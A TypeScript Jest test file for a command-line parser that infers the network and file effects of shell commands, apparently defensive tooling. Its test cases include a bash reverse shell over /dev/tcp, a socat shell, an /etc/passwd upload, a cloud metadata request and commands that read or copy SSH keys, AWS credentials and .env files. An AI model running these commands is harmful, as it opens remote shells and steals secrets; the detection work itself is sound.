import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parseCommandLine } from '../parse.ts';
import { factsOf } from '../line-facts.ts';
import { commandEffects, EFFECTS_PER_COMMAND, EFFECTS_PER_LINE, effectsOf } from './effects.ts';
import { readableEffect } from '../test-support/readable-effects.ts';

/** The effects from which events are derived. */
const eventsIn = (line: string): readonly string[] => effectsOf(parseCommandLine(line)).effects.map(readableEffect);
/** All effects of the line's commands, the possible ones included. */
const everythingIn = (line: string): readonly string[] => {
  const facts = factsOf(line);
  const commands = facts.parsed.pipelines.flatMap((pipeline) => pipeline.commands);
  return commands.flatMap((command) => facts.effectsOfCommand(command).map(readableEffect));
};
const WRITES = 'create or overwrite';

/** One line per case: the command line, then its effects. */
function expectEffects(
  cases: readonly (readonly [line: string, ...effects: readonly string[]])[],
  effectsIn = eventsIn,
): void {
  it.each(cases.map(([line, ...effects]) => ({ line, effects })))('$line', ({ line, effects }) => {
    expect(effectsIn(line)).toEqual(effects);
  });
}

describe('HTTP clients', () => {
  expectEffects([
    ['curl -s https://API.Example.com./v1', 'GET https api.example.com:443'],
    ['curl example.com/x', 'GET http example.com:80'],
    ['curl localhost:3000', 'GET http localhost:3000'],
    ['curl -X delete http://10.0.0.1:8080/a', 'DELETE http 10.0.0.1:8080'],
    ['curl -d a=b -d @body.json https://u:secret@h.example', 'POST https h.example:443', 'read body.json'],
    ['curl -d mail=ann@h.example https://h.example', 'POST https h.example:443'],
    ['curl --data-urlencode text@notes.md https://h.example', 'POST https h.example:443', 'read notes.md'],
    ['curl -H @headers -b jar https://h.example', 'GET https h.example:443', 'read headers', 'read jar'],
    ['curl -b a=b https://h.example', 'GET https h.example:443'],
    ['curl -x http://proxy.example:3128 https://h.example', 'GET https h.example:443', 'http proxy.example:3128'],
    ['curl --resolve h.example:443:203.0.113.9 https://h.example', 'GET https h.example:443', 'tcp 203.0.113.9'],
    ['curl http://0xA9FEA9FE/ http://[::ffff:a9fe:a9fe]/', 'GET http 169.254.169.254:80'],
    ['curl -G -d q=x https://h.example', 'GET https h.example:443'],
    ['curl -sSfLI https://h.example', 'HEAD https h.example:443'],
    ['curl -T dump.sql https://h.example/', 'PUT https h.example:443', 'read dump.sql'],
    ['curl -F "f=@/etc/passwd;type=text/plain" https://h.example', 'POST https h.example:443', 'read /etc/passwd'],
    ['curl --json "{}" https://h.example', 'POST https h.example:443'],
    ['curl -O https://h.example/a/b.tgz', 'GET https h.example:443', `create b.tgz (${WRITES})`],
    ['curl -o out/x https://h.example', 'GET https h.example:443', `create out/x (${WRITES})`],
    ['curl ftp://files.example/a', 'ftp files.example:21'],
    ['curl "http://[::1]:9200/_cat"', 'GET http ::1:9200'],
    ['curl --unix-socket /var/run/docker.sock http://localhost/info'],
    ['curl "$URL"'],
    ['curl https://$HOST/x'],
    ['curl -H "Referer: https://other.example" https://h.example', 'GET https h.example:443'],
    ['curl file:///etc/passwd'],
    ['wget https://h.example/a.sh', 'GET https h.example:443', `create a.sh (${WRITES})`],
    ['wget -qO- https://h.example/a.sh', 'GET https h.example:443'],
    ['wget -P dl https://h.example/a.sh', 'GET https h.example:443', `create dl/a.sh (${WRITES})`],
    ['wget --post-data=a=b -O /tmp/x h.example', 'POST http h.example:80', `create /tmp/x (${WRITES})`],
    ['wget -np -i urls https://h.example/a', 'GET https h.example:443', 'read urls', `create a (${WRITES})`],
    ['wget --spider https://h.example/', 'HEAD https h.example:443'],
    ['http PUT :3000/a name=x', 'PUT http localhost:3000'],
    ['http h.example/a name=x', 'POST http h.example:80'],
    ['http POST h.example f@a.txt -o out', 'read a.txt', 'POST http h.example:80', `create out (${WRITES})`],
  ]);
});

describe('other hosts', () => {
  expectEffects([
    ['ssh ann@build.example', 'ssh build.example:22'],
    ['ssh -p 2222 -i ~/.ssh/id build.example uptime', 'ssh build.example:2222'],
    ['ssh -J jump.example web1', 'ssh jump.example:22', 'ssh web1:22'],
    ['ssh -V'],
    ['ssh deploy@web1 "curl http://in.side > /tmp/x"', 'ssh web1:22', 'GET http in.side:80 @ ssh deploy@web1'],
    ['scp -P 2200 a.txt ann@h.example:/tmp/', 'ssh h.example:2200', 'read a.txt'],
    ['scp h.example:/etc/hosts .', 'ssh h.example:22', `create hosts (${WRITES})`],
    ['rsync -avz -e "ssh -p 2222" dist/ deploy@web1:/srv', 'ssh web1:2222', 'read dist/'],
    ['rsync host::module/a /tmp/b', 'rsync host:873', `create /tmp/b (${WRITES})`],
    ['sftp ann@h.example', 'sftp h.example:22'],
    ['nc -w 3 h.example 4444', 'tcp h.example:4444'],
    ['nc -nvz 10.0.0.5 1-1024', 'tcp 10.0.0.5'],
    ['nc -u 10.0.0.5 53', 'udp 10.0.0.5:53'],
    ['nc -lvp 4444'],
    ['socat - TCP:h.example:80,crnl', 'tcp h.example:80'],
    ['socat OPENSSL:h.example:443 EXEC:sh', 'tls h.example:443'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'tcp 10.0.0.1:4444'],
    ['exec 5<>/dev/udp/h.example/53', 'udp h.example:53'],
    ['telnet h.example', 'telnet h.example:23'],
    ['openssl s_client -connect h.example:443', 'tls h.example:443'],
    ['ssh -o HostName=203.0.113.9 -o "ProxyJump jump.example" web1', 'ssh jump.example:22', 'ssh 203.0.113.9:22'],
    ['ping -c 3 h.example', 'icmp h.example'],
    ['dig @10.0.0.53 +short x.example', 'dns 10.0.0.53:53'],
    ['psql -h db.example -U ann app', 'postgresql db.example:5432'],
    ['psql -h /var/run/postgresql app'],
    ['mysql --host=db.example -P 3307', 'mysql db.example:3307'],
    ['redis-cli -h cache.example get k', 'redis cache.example:6379'],
  ]);
});

describe('repositories, packages and images', () => {
  expectEffects([
    ['git clone https://tok@git.example/a/b.git', 'https git.example:443'],
    ['git clone --depth 1 -b main git@git.example:a/b.git dir', 'ssh git.example:22'],
    ['git -C /srv/app push ssh://git@git.example:2222/a HEAD', 'ssh git.example:2222'],
    ['git fetch origin main'],
    ['git clone ../local'],
    ['git remote add up https://git.example/a'],
    ['git remote add -f up https://git.example/a', 'https git.example:443'],
    ['git submodule add https://git.example/a vendor/a', 'https git.example:443'],
    ['git commit -m "see https://git.example"'],
    ['git rm -r old.txt', 'delete old.txt'],
    ['pip install requests'],
    ['pip install -i https://pypi.example/simple x', 'https pypi.example:443'],
    ['python3 -m pip install git+https://git.example/a.git@v1', 'https git.example:443'],
    ['PIP_INDEX_URL=https://pypi.example/simple pip install x', 'https pypi.example:443'],
    ['pip config set global.index-url https://pypi.example/simple'],
    ['npm install --registry=http://npm.example:4873 x', 'http npm.example:4873'],
    ['npm i git+ssh://git@git.example/a.git', 'ssh git.example:22'],
    ['cargo install --git https://git.example/a', 'https git.example:443'],
    ['go get github.com/a/b'],
    ['gem install x --source https://gems.example', 'https gems.example:443'],
    ['helm repo add a https://charts.example', 'https charts.example:443'],
    ['docker pull registry.example:5000/app/x:1', 'https registry.example:5000'],
    ['docker push ghcr.io/a/b', 'https ghcr.io:443'],
    ['docker pull nginx'],
    ['docker run ghcr.io/a/b curl http://in.side', 'GET http in.side:80 @ docker run ghcr.io/a/b'],
    ['aws s3 ls --endpoint-url http://minio.example:9000', 'http minio.example:9000'],
    ['aws s3 ls'],
    ['aws s3 cp --acl private dump.sql s3://bucket/', 'read dump.sql'],
    ['aws s3 cp s3://bucket/a.txt b.txt', `create b.txt (${WRITES})`],
    ['docker cp web:/etc/hosts .', `create hosts (${WRITES})`],
    ['git -C sub archive -o out.tgz HEAD', `create sub/out.tgz (${WRITES})`],
    ['git apply fix.patch; git checkout -- a.ts; git restore --staged b.ts', 'read fix.patch', 'update a.ts'],
  ]);
});

describe('files', () => {
  expectEffects([
    ['cat a.txt b.txt', 'read a.txt', 'read b.txt'],
    ['head -n 5 a; tail -20 b', 'read a', 'read b'],
    ['grep -rn "x" src tests', 'search src', 'search tests'],
    ['grep -n "/etc/passwd" a.txt', 'read a.txt'],
    ['grep -e x -f pats a.txt', 'read pats', 'read a.txt'],
    ["sed -n '1,9p' a.txt", 'read a.txt'],
    ["sed -i.bak -e 's/a/b/' a.txt b.txt", 'update a.txt', 'update b.txt'],
    ["sed -i '' 's/a/b/' a.txt", 'update a.txt'],
    ["awk -F: '{print $1}' OFS=: /etc/passwd", 'read /etc/passwd'],
    ['jq --arg a b ".x" f.json', 'read f.json'],
    ["perl -pi -e 's/a/b/' f", 'update f'],
    ['echo hi > out; echo ho >> log; wc -l < in', `create out (${WRITES})`, 'update log (append)', 'read in'],
    ['make 2> err.log >/dev/null 2>&1', `create err.log (${WRITES})`],
    ['make &> all.log', `create all.log (${WRITES})`],
    ['cat <<EOF > conf.yml\nhost: x > y\nEOF', `create conf.yml (${WRITES})`],
    ['cp -r a b', 'read a', `create b (${WRITES})`],
    [
      'cp a.txt sub/b.txt dir',
      'read a.txt',
      `create dir/a.txt (${WRITES})`,
      'read sub/b.txt',
      `create dir/b.txt (${WRITES})`,
    ],
    ['cp -t dir a', 'read a', `create dir/a (${WRITES})`],
    ['mv old.ts new.ts', 'move new.ts from old.ts'],
    ['mv a b dir/', 'move dir/a from a', 'move dir/b from b'],
    ['rm -rf build -- -odd', 'delete build', 'delete -odd'],
    ['sudo tee -a /etc/hosts', 'update /etc/hosts (append)'],
    ['echo x | tee a b', `create a (${WRITES})`, `create b (${WRITES})`],
    ['ln -s ../target link', 'create link (link)'],
    ['touch a', 'create a (create, or time)'],
    ['chmod -x run.sh', 'update run.sh (mode)'],
    ['chown -R ann:staff dir', 'update dir (owner)'],
    ['dd if=/dev/zero of=disk.img bs=1M', `create disk.img (${WRITES})`],
    ['truncate -s 0 log', 'update log'],
    ['install -m 755 a /usr/local/bin/', 'read a', `create /usr/local/bin/a (${WRITES})`],
    ['tar czf /tmp/x.tgz -C src a b', `create /tmp/x.tgz (${WRITES})`, 'read src/a', 'read src/b'],
    ['tar -xzf a.tgz -C out', 'read a.tgz'],
    ['zip -r out dir -x "*.git*"', 'update out.zip (create or update)', 'read dir'],
    ['unzip -o a.zip -d out', 'read a.zip'],
    ['gzip -9 log', 'read log', `create log.gz (${WRITES})`, 'delete log (replaced)'],
    ['gunzip -k log.gz', 'read log.gz', `create log (${WRITES})`],
    ['ls -la /etc; stat x; mkdir d; rmdir d; python run.py; bash run.sh; find . -name x'],
    ['echo "rm -rf / > x"; git commit -m "cat a > b"'],
  ]);
});

describe('the value of an option is no file', () => {
  expectEffects([
    ['tar czf out.tgz ~/.ssh', `create out.tgz (${WRITES})`, 'read ~/.ssh'],
    ['tar --create --gzip --file=out.tgz a', `create out.tgz (${WRITES})`, 'read a'],
    ['sort -o x y', 'read y', `create x (${WRITES})`],
    ['sort -k 2 -t : --output=x y', 'read y', `create x (${WRITES})`],
    ['head -n 5 f', 'read f'],
    ['head -c 4000 f', 'read f'],
    ['tail --lines 5 f', 'read f'],
    ['touch -d yesterday f', 'create f (create, or time)'],
    ['touch -r other f', 'create f (create, or time)'],
    ['truncate --size 0 f', 'update f'],
    ['wget https://h.example/a.sh', 'GET https h.example:443', `create a.sh (${WRITES})`],
    ['gpg -d secrets.gpg', 'read secrets.gpg'],
    ['gpg --output plain --decrypt secrets.gpg', `create plain (${WRITES})`, 'read secrets.gpg'],
    ['gpg --batch --passphrase x -c f', 'read f', `create f.gpg (${WRITES})`],
    ['gpg -r bob@h.example -ea f', 'read f', `create f.asc (${WRITES})`],
    ['gpg --list-keys ann'],
    ['gpg --export-secret-keys -o keys ann', `create keys (${WRITES})`],
    ['age -r age1xyz -o f.age f', 'read f', `create f.age (${WRITES})`],
    ['age -d -i key.txt f.age', 'read key.txt', 'read f.age'],
    ['openssl enc -aes-256-cbc -salt -in a -out b -pass pass:x', 'read a', `create b (${WRITES})`],
    ['openssl rsa -in key.pem -passin file:pw', 'read key.pem', 'read pw'],
    ['openssl dgst -sha256 a.bin', 'read a.bin'],
    ['ssh-keygen -t ed25519 -N "" -f key', `create key (${WRITES})`, `create key.pub (${WRITES})`],
    ['ssh-keygen -y -f key', 'read key'],
    ['cut -d : -f 1 f', 'read f'],
    ['wc -l f; uniq -c in out', 'read f', 'read in', `create out (${WRITES})`],
    ['split -b 10M big part-; fold -w 60 f', 'read big', 'read f'],
    ['tr a-z A-Z'],
    ['base64 -w 0 key; base64 -d -i in -o out', 'read key', 'read in', `create out (${WRITES})`],
    ['xxd -l 16 a b', 'read a', `create b (${WRITES})`],
    ['cmp a b 10 20', 'read a', 'read b'],
    ['less +G f; tail +5 g', 'read f', 'read g'],
    ['shred -n 3 -u f', 'delete f'],
    ['7z a -pSecret out.7z docs', 'update out.7z (create or update)', 'read docs'],
    ['7z x -pSecret out.7z', 'read out.7z'],
    ['zip -P x -r out.zip src', 'update out.zip (create or update)', 'read src'],
    ['zip -m out.zip f', 'update out.zip (create or update)', 'read f', 'delete f'],
    ['zstd -o f.zst f', `create f.zst (${WRITES})`, 'read f'],
    ['yq -i .a f.yml; yq eval .a g.yml', 'update f.yml', 'read g.yml'],
    ['rsync --remove-source-files a host.example:b', 'ssh host.example:22', 'read a', 'delete a'],
    ['vim -c "set number" notes.md', 'read notes.md'],
    ['sqlite3 -csv -cmd ".mode" "file:app.db?immutable=1" "select 1"', 'read app.db'],
    ['find . -name x -fprint out', `create out (${WRITES})`],
  ]);
});

describe('what is possible, or no event', () => {
  expectEffects(
    [
      ['cp a b', 'read a', `create b (${WRITES})`, `maybe create b/a (${WRITES})`],
      ['cp a b/', 'read a', `create b/a (${WRITES})`],
      ['cp -T a b', 'read a', `create b (${WRITES})`],
      ['ln -s a b', 'create b (link)', 'maybe create b/a (link)'],
      ['find ~ -name "*.log" -delete', 'maybe delete ~/*.log (as written)'],
      ['find /srv -type f -delete', 'maybe delete /srv'],
      ['find /srv ! -name keep -delete', 'maybe delete /srv'],
      ['find / -name id_rsa -exec cat {} \\;', 'maybe read /id_rsa'],
      [
        'find . -path "*/.ssh/*" | xargs -I{} cp {} /tmp/',
        'maybe read */.ssh/* (as written)',
        `maybe create /tmp/* (${WRITES}, as written)`,
      ],
      ['ls | xargs rm'],
      ['vim f', 'read f', 'maybe update f'],
      ['open f', 'maybe read f'],
      ['hashcat -m 1000 hashes words', 'maybe read hashes', 'maybe read words'],
      ['tar xf a.tgz -C /srv', 'read a.tgz', 'maybe update /srv (extracted)'],
      ['7z x a.7z -o/srv', 'maybe update /srv (extracted)', 'read a.7z'],
      ['rm $HISTFILE', 'maybe delete $HISTFILE (as written)'],
      ['CAT f', 'maybe read f'],
      ['dig x.example', 'maybe dns x.example'],
      [
        'https_proxy=http://p.example:3128 curl https://h.example',
        'GET https h.example:443',
        'maybe http p.example:3128',
      ],
      ['lynx h.example/a', 'maybe http h.example:80'],
      ['python3.12 -W ignore run.py -m x; python3 -c 1; python3 -m http.server', 'read run.py (script)'],
      ['node --require ./a.js b.js; bun install; deno run -A c.ts', 'read b.js (script)', 'read c.ts (script)'],
      ['bash -x run.sh; perl fix.pl; ruby -e 1', 'read run.sh (script)', 'read fix.pl (script)'],
      ['docker exec web cat /etc/passwd', 'read /etc/passwd @ docker exec web'],
    ],
    everythingIn,
  );

  it.each(['find . -name "*.py" -exec rm {} +', 'python run.py', 'docker exec web cat /etc/passwd', 'open f'])(
    'derives no event from %s',
    (line) => {
      expect(eventsIn(line)).toEqual([]);
      expect(everythingIn(line)).not.toEqual([]);
    },
  );
});

describe('the folder of a path', () => {
  expectEffects([
    ['cd src && cat a.ts ../b.ts', 'read src/a.ts', 'read b.ts'],
    ['cd /srv/app; cat ./a', 'read /srv/app/a'],
    ['(cd sub && cat a) ; cat b', 'read sub/a', 'read b'],
    ['(cd sub && ls) > out', `create out (${WRITES})`],
    ['cd sub | cat a', 'read a'],
    ['bash -c "cd sub && cat a"; cat b', 'read sub/a', 'read b'],
    ['eval "cd sub"; cat a', 'read sub/a'],
    ['D=sub; cd $D && cat a', 'read sub/a'],
    ['cd "$DIR" && cat a; cat /b', 'read $DIR/a (as written)', 'read /b'],
    ['cd $HOME/.aws && cat credentials', 'read $HOME/.aws/credentials (as written)'],
    ['cd "$(git rev-parse --show-toplevel)" && cat .env', 'read $(git rev-parse --show-toplevel)/.env (as written)'],
    ['cd src-* && cat a', 'read a (unknown folder)'],
    ['cd - && cat a', 'read a (unknown folder)'],
    ['test -d x || cd y; cat a', 'read a (unknown folder)'],
    ['if [ -d x ]; then cd x; cat a; else cat b; fi; cat c', 'read x/a', 'read b', 'read c (unknown folder)'],
    ['for d in a b; do cd x; cat a; cd ..; done; cat b', 'read x/a', 'read b'],
    ['pushd sub; cat a; popd; cat b', 'read sub/a', 'read b (unknown folder)'],
    ['cd; cat .bashrc', 'read ~/.bashrc'],
    ['cat ~/.ssh/id_rsa $HOME/.netrc', 'read ~/.ssh/id_rsa', 'read $HOME/.netrc (as written)'],
    ['cd src && rm *.o "$name.txt"', 'delete src/*.o (as written)', 'delete $name.txt (as written)'],
    ['for f in a b; do cat $f "${f}"; done'],
    ['diff <(ls a) <(ls b)'],
    ['find . -name "*.py" -exec rm {} +'],
    ['docker exec web cat /etc/passwd'],
    ['cat - < a', 'read a'],
    ['cat a; cat a; cat ./a', 'read a'],
  ]);
});

describe('Windows', () => {
  expectEffects([
    [
      'powershell -Command "iwr https://h.example/a.ps1 -OutFile C:\\t\\a.ps1"',
      'GET https h.example:443',
      `create C:\\t\\a.ps1 (${WRITES})`,
    ],
    ['Invoke-RestMethod -Method Post -Uri https://h.example -Body $b', 'POST https h.example:443'],
    [
      'Start-BitsTransfer -Source https://h.example/a.zip -Destination C:\\t\\',
      'https h.example:443',
      `create C:\\t\\a.zip (${WRITES})`,
    ],
    ['Get-Content .\\a.txt | Set-Content b.txt', 'read a.txt', `create b.txt (${WRITES})`],
    ['Copy-Item a.txt b.txt; Remove-Item -Recurse -Force old', 'read a.txt', `create b.txt (${WRITES})`, 'delete old'],
    ['cmd /c "type C:\\a.txt > C:\\b.txt"', 'read C:\\a.txt', `create C:\\b.txt (${WRITES})`],
    ['cmd /c "del /f /q C:\\a.txt & copy C:\\b C:\\c"', 'delete C:\\a.txt', 'read C:\\b', `create C:\\c (${WRITES})`],
  ]);
});

describe('what the exit status says about a command', () => {
  const statuses = (line: string): string =>
    effectsOf(parseCommandLine(line))
      .effects.map(({ cause }) => cause.exitStatus)
      .join(' ');
  it.each([
    ['cat a', 'own'],
    ['cd x; cat a', 'own'],
    ['cat a && cat b', 'shared shared'],
    ['cat a; cat b', 'lost own'],
    ['cat a || cat b', 'lost lost'],
    ['cat a | cat - b', 'lost shared'],
    ['! cat a', 'lost'],
    ['cat a &', 'lost'],
    ['if cat a; then cat b; fi', 'lost lost'],
    ['{ cat a; }', 'own'],
    ['sudo timeout 5 cat a', 'own'],
    ['bash -c "cat a && cat b"', 'shared shared'],
    ['echo $(cat a)', 'lost'],
    ['ls | xargs cat a', 'lost'],
    ['f() { cat a; }', 'lost'],
  ])('%s: %s', (line, expected) => {
    expect(statuses(line)).toBe(expected);
  });
});

describe('bounds', () => {
  it('shows rules a file after many harmless names', () => {
    const names = Array.from({ length: 200 }, (_, n) => `f${n}`).join(' ');
    expect(everythingIn(`cat ${names} ~/.ssh/id_rsa`)).toContain('read ~/.ssh/id_rsa');
    expect(everythingIn(`cat ${Array.from({ length: 2_000 }, (_, n) => `g${n}`).join(' ')}`)).toHaveLength(
      EFFECTS_PER_COMMAND,
    );
  });

  it('gives a fixed number of effects and counts the rest', () => {
    const { effects, surplus } = effectsOf(
      parseCommandLine(`rm ${Array.from({ length: 200 }, (_, n) => `f${n}`).join(' ')}`),
    );
    expect(effects).toHaveLength(EFFECTS_PER_LINE);
    expect(surplus).toBe(200 - EFFECTS_PER_LINE);
  });

  const word = fc.oneof(
    fc.constantFrom(
      'curl',
      'wget',
      'cp',
      'mv',
      'tar',
      'git',
      'clone',
      'ssh',
      'rsync',
      'sed',
      '-i',
      'docker',
      'pull',
      'pip',
      'install',
      'nc',
      'cd',
      'chmod',
      'http',
      'socat',
      'openssl',
      '-o',
      '-X',
      '-C',
      '--',
      '>',
      '>>',
      '<',
      '|',
      '&&',
      '||',
      ';',
      '(',
      ')',
      '../..',
      'https://h:99999/',
      '@',
      ':',
      'a:b',
      '[',
      '$',
      '`',
      '$(',
      "'",
      '"',
      '{}',
      'TCP:a:1',
      '-',
      '=',
      '//',
      '\\',
    ),
    fc.string({ maxLength: 12 }),
    fc.string({ unit: 'binary', maxLength: 6 }),
  );
  it('accepts any text', () => {
    fc.assert(
      fc.property(fc.array(word, { maxLength: 24 }), (words) => {
        const parsed = parseCommandLine(words.join(' '));
        const { effects, surplus } = effectsOf(parsed, 8);
        expect(effects.length).toBeLessThanOrEqual(8);
        if (surplus > 0) expect(effects).toHaveLength(8);
        for (const effect of effects) {
          if (effect.kind === 'file') expect(effect.path).toMatch(/^[^\0\n]{1,4096}$/);
          else {
            expect(effect.host).toMatch(/^[^\s/@$]{1,253}$/);
            expect(effect.port ?? 1).toBeGreaterThan(0);
            expect(effect.port ?? 1).toBeLessThan(65_536);
          }
        }
        expect(effectsOf(parsed, 8)).toEqual({ effects, surplus });
        for (const { commands } of parsed.pipelines)
          for (const command of commands)
            expect(commandEffects(command, parsed.shell, ['a/b']).length).toBeLessThanOrEqual(EFFECTS_PER_COMMAND);
      }),
      { numRuns: 2_000 },
    );
  });
});
